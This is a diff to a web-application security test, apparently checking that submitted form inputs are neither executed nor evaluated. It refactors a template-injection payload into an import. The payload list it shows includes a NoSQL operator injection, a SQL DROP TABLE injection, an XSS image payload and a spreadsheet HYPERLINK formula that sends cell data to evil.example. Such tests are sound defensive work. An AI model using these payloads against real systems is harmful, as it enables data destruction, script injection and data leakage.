@@ -38,6 +38,7 @@ import { png } from '../branding/sample-pictures.ts';
 import { memberOf, type Member } from '../support/account.ts';
 import { byOperator, performedByOperator } from '../support/by-operator.ts';
 import { openThings } from '../support/open-things.ts';
+import { EXPRESSION, RECKONED } from '../support/payloads.ts';
 import {
   createHttpBrowser,
   formData,
@@ -266,7 +267,7 @@ async function everybody(): Promise<string> {
 const PAYLOADS = [
   '{"$ne":null}',
   '\'); DROP TABLE k_person; -- "',
-  '{{ 1337 * 7331 }}${1337*7331}<%= 1337*7331 %>',
+  EXPRESSION,
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   '"><img src=x onerror=alert(1)>',
 ];
@@ -276,7 +277,7 @@ const EXPECTED = [200, 303, 400, 403, 404, 409, 429];
 /** Neither run nor reckoned. */
 function assertHarmless(html: string, what: string): void {
   assert.doesNotMatch(html, /<img src=x/u, what);
-  assert.ok(!html.includes(String(1337 * 7331)), what);
+  assert.ok(!html.includes(RECKONED), what);
 }
 
 /** Of the page itself, and not of its frame: the names of all boxes, those that are typed into, and what they have. */
